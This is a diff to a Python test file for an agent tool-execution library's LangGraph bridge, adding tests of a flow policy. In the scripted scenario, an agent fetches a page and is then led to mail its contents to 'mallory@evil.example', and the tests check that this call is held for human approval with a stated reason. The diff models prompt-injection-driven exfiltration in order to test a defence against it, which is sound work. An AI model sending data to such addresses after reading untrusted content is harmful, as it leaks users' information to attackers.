@@ -6,7 +6,7 @@ from typing import Any
 import anyio
 import pytest
 from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
-from langchain_core.messages import AIMessage, AIMessageChunk, ToolMessage
+from langchain_core.messages import AIMessage, AIMessageChunk, HumanMessage, ToolMessage
 from langgraph.checkpoint.memory import InMemorySaver
 from langgraph.graph import START, MessagesState, StateGraph
 from langgraph.runtime import Runtime
@@ -15,7 +15,7 @@ from langgraph.types import Command
 from spindle import Budget, Executor, Journal, ToolFilter
 from spindle.bridges.frameworks.langgraph import tool_node, tools_condition
 from spindle.trust import SinkPolicy
-from tests.bridges.frameworks.workshop import HOSTILE, Workshop
+from tests.bridges.frameworks.workshop import HOSTILE, REASON, Workshop, build_guarded, fetch_page, send_mail
 
 pytestmark = [pytest.mark.anyio, pytest.mark.slow]
 
@@ -241,3 +241,29 @@ async def test_cancelling_a_graph_reaches_the_tool(shop: Workshop) -> None:
         with pytest.raises(asyncio.CancelledError):
             await running
         await shop.cancelled.wait()
+
+
+@pytest.mark.parametrize("config", [ANN, {}], ids=["thread", "no thread"])
+async def test_a_flow_policy_reads_the_state(config: Any) -> None:
+    script = [
+        asks(("fetch_page", {})),
+        asks(("send_mail", {"to": "bob@corp.example"}), ("send_mail", {"to": "mallory@evil.example"}), start=1),
+    ]
+    node = tool_node([fetch_page, send_mail], executor=build_guarded())
+    said = {"messages": [("user", "Send it to bob@corp.example"), HumanMessage("mallory@evil.example", name="agent")]}
+
+    state = await graph(node, script).ainvoke(said, config)
+
+    assert [message.artifact.get("code", "ok") for message in answers(state)] == ["ok", "ok", "needs_approval"]
+
+
+async def test_an_interrupt_of_a_flow_policy_says_why() -> None:
+    script = [asks(("fetch_page", {})), asks(("send_mail", {"to": "mallory@evil.example"}), start=1)]
+    made = graph(tool_node([fetch_page, send_mail], executor=build_guarded()), script, saver=InMemorySaver())
+
+    stopped = await made.ainvoke(HELLO, ANN)
+    done = await made.ainvoke(Command(resume=True), ANN)
+
+    [question] = stopped["__interrupt__"]
+    assert [each["reasons"] for each in question.value["approve"]] == [[REASON.format(call_id="c0")]]
+    assert [message.status for message in answers(done)] == ["success", "success"]
